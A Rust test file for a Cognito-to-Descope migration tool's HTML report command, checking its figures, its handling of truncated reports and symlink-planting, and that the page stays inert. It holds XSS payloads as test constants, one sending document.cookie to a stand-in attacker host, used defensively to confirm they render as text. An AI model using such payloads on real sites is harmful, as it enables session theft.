//! `cognito-to-descope report REPORT.json --html OUT.html`: the page of a real run's report (moto as
//! Cognito, the emulator as Descope), read back with html5ever (`scraper`) as a browser would, its
//! figures checked against the JSON; a report cut short; the file's safety.

use std::{collections::BTreeMap, os::unix::fs::PermissionsExt as _, path::Path};

use aws_sdk_cognitoidentityprovider::types::AttributeDataType as T;
use importer::{
    model::Problem,
    report::{JsonReport, Outcome, Reporter, UserOutcome},
};
use scraper::{Html, Selector};
use serde_json::{Value, json};

use crate::support::{Importer, Moto, Pool, descope, descope_config, manage};

/// A Cognito username may hold `<`, `>` and quotes (AWS's pattern allows any symbol or punctuation).
const HOSTILE_USERNAME: &str = r#""><script>alert(1)</script><img/src=x/onerror=alert(2)>"#;
/// An end user's attribute value, shown in the page as the value that was left out.
const HOSTILE_VALUE: &str = r#"12</td><script>fetch('//evil.example/'+document.cookie)</script>"#;

/// Runs `report` on `json` into `html` with an empty environment (it needs no setting).
fn report_command(work: &Path, json: &Path, html: &Path) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_cognito-to-descope"))
        .args(["report".as_ref(), json.as_os_str(), "--html".as_ref(), html.as_os_str()])
        .current_dir(work)
        .env_clear()
        .output()
        .unwrap()
}

fn parse(html: &Path) -> Html {
    let page = Html::parse_document(&std::fs::read_to_string(html).unwrap());
    assert!(
        page.errors.is_empty(),
        "the page is not well-formed HTML: {:?}",
        page.errors
    );
    page
}

fn select<'a>(page: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    page.select(&Selector::parse(css).unwrap()).collect()
}

fn number(page: &Html, css: &str) -> u64 {
    let cells = select(page, css);
    assert_eq!(cells.len(), 1, "exactly one {css}");
    cells[0].text().collect::<String>().trim().parse().unwrap()
}

/// No element or attribute of the page can run code or fetch anything, whatever the data held.
fn assert_inert(page: &Html) {
    for tag in [
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "link",
        "form",
        "a",
        "base",
        "meta[http-equiv=refresh]",
    ] {
        assert!(select(page, tag).is_empty(), "the page has a <{tag}>");
    }
    for element in select(page, "*") {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "event handler attribute {name}={value:?}");
            assert!(
                !value.trim_start().to_lowercase().starts_with("javascript:"),
                "{name}={value:?}"
            );
        }
    }
    let csp = select(page, r#"meta[http-equiv="Content-Security-Policy"]"#);
    assert_eq!(csp.len(), 1);
    assert!(
        csp[0]
            .value()
            .attr("content")
            .unwrap()
            .starts_with("default-src 'none'")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_of_a_real_run_shows_the_reports_figures_and_hostile_values_as_text() {
    let moto = Moto::start();
    let acme = Pool::create(moto.client(), "acme", &[("seats", T::Number)]).await;
    let beta = Pool::create(moto.client(), "beta", &[]).await;
    let verified = |email: &'static str| vec![("email", email), ("email_verified", "true")];
    acme.user("ana", &verified("ana@example.com")).await;
    let mut hostile = verified("hostile@example.com");
    hostile.push(("custom:seats", HOSTILE_VALUE));
    acme.user(HOSTILE_USERNAME, &hostile).await;
    acme.user("victim", &verified("victim@example.com")).await;
    beta.user("ben", &verified("ben@example.com")).await;
    beta.user("no-contact", &[]).await;
    let stage = descope(descope_config()).await;
    // Registered in Descope before the import: the victim's run line is a conflict.
    manage(
        &stage,
        "/v1/mgmt/user/create",
        json!({"loginId": "victim@example.com", "email": "victim@example.com"}),
    )
    .await;
    let mut importer = Importer::new(
        &moto,
        &stage,
        &[&format!("{}=acme", acme.id), &format!("{}=beta", beta.id)],
    );
    importer
        .extra_env
        .push(("MIGRATION_LOGIN_ID".into(), "email-or-phone".into()));
    let run = importer.run(&["migrate"]).await;
    assert_eq!(run.code, 1, "{}", run.output());
    let report = run.report.clone().expect("a JSON report");
    // The page is made from the file the run wrote.
    let written = std::fs::read_dir(importer.work.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("report-"))
        .unwrap();
    let json_bytes = std::fs::read(&written).unwrap();
    let html = importer.work.path().join("pages/run.html");

    let out = report_command(importer.work.path(), &written, &html);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("run.html (5 users)"));
    assert_eq!(std::fs::metadata(&html).unwrap().permissions().mode() & 0o777, 0o600);
    let page = parse(&html);
    assert_inert(&page);

    // Figures: per pool and outcome, as counted from the JSON's user lines.
    let users = report["users"].as_array().unwrap();
    let mut expected: BTreeMap<(String, String), u64> = BTreeMap::new();
    for user in users {
        let pool = user["pool"].as_str().unwrap().to_owned();
        *expected
            .entry((pool.clone(), user["outcome"].as_str().unwrap().to_owned()))
            .or_default() += 1;
        *expected.entry((pool, "all".to_owned())).or_default() += 1;
    }
    assert_eq!(expected.len(), 7, "two pools, five outcomes in all: {expected:?}");
    for ((pool, outcome), count) in &expected {
        let css = format!(r#"#outcome-figures td[data-pool="{pool}"][data-outcome="{outcome}"]"#);
        assert_eq!(number(&page, &css), *count, "{pool} {outcome}");
    }
    // Two pools by four outcomes and their sum (a pool without an outcome shows 0).
    assert_eq!(
        select(&page, "#outcome-figures td[data-outcome]").len(),
        2 * 5,
        "no other cell"
    );
    let verdict = select(&page, "[data-users]");
    assert_eq!(
        verdict[0].value().attr("data-users").map(|n| n.parse::<u64>().unwrap()),
        report["summary"]["users"].as_u64()
    );
    assert!(verdict[0].text().collect::<String>().contains("2 not migrated"));
    assert_eq!(select(&page, "svg.bar").len(), 2, "one bar per pool");
    let failures = users
        .iter()
        .filter(|u| ["conflict", "unmigratable"].contains(&u["outcome"].as_str().unwrap()))
        .count();
    assert_eq!(failures, 2);
    let table = select(&page, "table#not-migrated");
    assert_eq!(table[0].value().attr("data-total"), Some("2"));
    // Problems grouped: the conflict (acme), the user with no login ID (beta), the value left out.
    for (group, pool) in [
        ("outcome:conflict", &acme.id),
        ("problem:noLoginId", &beta.id),
        ("warning:valueLeftOut@custom:seats", &acme.id),
    ] {
        let css = format!(r#"#groups td[data-group="{group}"][data-pool="{pool}"]"#);
        assert_eq!(number(&page, &css), 1, "{group}");
    }
    assert!(select(&page, "#groups td[data-group]").len() == 3, "no other group");

    // The hostile username and value are text of the warnings list, character for character.
    let warned = select(&page, "table#warnings tbody tr");
    assert_eq!(warned.len(), 1);
    let cells: Vec<String> = warned[0]
        .children()
        .filter_map(scraper::ElementRef::wrap)
        .map(|c| c.text().collect())
        .collect();
    assert_eq!(cells[1], HOSTILE_USERNAME);
    assert!(cells[4].contains(HOSTILE_VALUE), "{}", cells[4]);
    let settings: String = select(&page, "#settings")[0].text().collect();
    assert!(
        settings.contains("email-or-phone") && settings.contains("acme"),
        "{settings}"
    );
    assert!(select(&page, "#incomplete").is_empty());
    // The JSON report itself is never overwritten by the page.
    let again = report_command(importer.work.path(), &written, &written);
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("is the JSON report itself"));
    assert_eq!(std::fs::read(&written).unwrap(), json_bytes);
}

/// A report written by the library's own writer, as a run writes it.
fn write_report(path: &Path, users: impl IntoIterator<Item = UserOutcome>, finish: bool) {
    let run = json!({"command": "migrate", "dryRun": false, "pools": [{"poolId": "us-east-1_A", "tenant": null}]});
    let mut reporter = Reporter::new(0, 0, false, Some(JsonReport::create(path, &run).unwrap()));
    for user in users {
        reporter.record(user);
    }
    if finish {
        reporter.finish(Value::Null).unwrap();
    }
}

fn unmigratable(n: usize) -> UserOutcome {
    let mut user = UserOutcome::new("us-east-1_A", format!("user{n:05}"), None, Outcome::Unmigratable);
    user.problems.push(Problem::NoLoginId);
    user
}

#[test]
fn a_report_cut_short_by_a_kill_still_renders_what_it_holds_marked_incomplete() {
    let work = tempfile::tempdir().unwrap();
    let json = work.path().join("killed.json");
    let mut users: Vec<UserOutcome> = (0..3)
        .map(|n| {
            UserOutcome::new(
                "us-east-1_A",
                format!("ok{n}"),
                Some(format!("ok{n}@example.com")),
                Outcome::Created,
            )
        })
        .collect();
    users.push(unmigratable(0));
    write_report(&json, users, false);
    // Killed while writing the fifth line.
    let mut bytes = std::fs::read(&json).unwrap();
    bytes.extend_from_slice(b",\n{\"pool\":\"us-east-1_A\",\"usern");
    std::fs::write(&json, &bytes).unwrap();
    let html = work.path().join("killed.html");

    let out = report_command(work.path(), &json, &html);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("4 users, incomplete report"));
    let page = parse(&html);
    assert_inert(&page);
    let note: String = select(&page, "#incomplete")[0].text().collect();
    assert!(
        note.contains("in the middle of a line") && note.contains("4 users"),
        "{note}"
    );
    assert_eq!(
        number(&page, r#"td[data-pool="us-east-1_A"][data-outcome="created"]"#),
        3
    );
    assert_eq!(number(&page, r#"td[data-group="problem:noLoginId"]"#), 1);

    // A line damaged in the middle is not skipped silently: the file was edited, not cut.
    let damaged = String::from_utf8(bytes).unwrap().replacen("\"ok1\"", "\"ok1", 1);
    std::fs::write(&json, damaged).unwrap();
    let out = report_command(work.path(), &json, &html);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("line 3 is not a user record"),
        "{out:?}"
    );
}

#[test]
fn a_long_list_is_cut_at_a_thousand_names_and_says_how_many_more() {
    let work = tempfile::tempdir().unwrap();
    let json = work.path().join("many.json");
    write_report(&json, (0..1001).map(unmigratable), true);
    let html = work.path().join("many.html");
    assert!(report_command(work.path(), &json, &html).status.success());
    let page = parse(&html);
    assert_eq!(
        select(&page, "table#not-migrated tbody tr").len(),
        importer::html_report::SHOWN_PER_LIST
    );
    assert_eq!(
        select(&page, "table#not-migrated")[0].value().attr("data-total"),
        Some("1001")
    );
    let notes: String = select(&page, "#attention .note")
        .iter()
        .flat_map(|n| n.text())
        .collect();
    assert!(notes.contains("1 more"), "{notes}");
    assert_eq!(number(&page, r#"td[data-group="problem:noLoginId"]"#), 1001);
}

#[test]
fn the_page_replaces_a_planted_file_or_link_without_writing_through_it_and_reads_no_env() {
    let work = tempfile::tempdir().unwrap();
    let json = work.path().join("r.json");
    write_report(&json, [unmigratable(1)], true);
    let victim = work.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    let html = work.path().join("page.html");
    // A .env no parser accepts (it would stop `migrate`): `report` never reads it.
    std::fs::write(work.path().join(".env"), "this line is not KEY=VALUE\n").unwrap();
    // Planted: the page's name and its temporary name both link to another file.
    std::os::unix::fs::symlink(&victim, &html).unwrap();
    std::os::unix::fs::symlink(&victim, work.path().join(".page.html.partial")).unwrap();

    let out = report_command(work.path(), &json, &html);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    let meta = std::fs::symlink_metadata(&html).unwrap();
    assert!(meta.is_file(), "the page is a file of its own");
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert!(!work.path().join(".page.html.partial").exists());

    // Not a report, and a missing one: exit 2 naming the file, no page left behind.
    std::fs::write(&json, "{\"hello\": 1}").unwrap();
    let out = report_command(work.path(), &json, &work.path().join("other.html"));
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not a cognito-to-descope JSON report"));
    assert!(!work.path().join("other.html").exists());
    let out = report_command(
        work.path(),
        &work.path().join("missing.json"),
        &work.path().join("other.html"),
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("missing.json"));
}
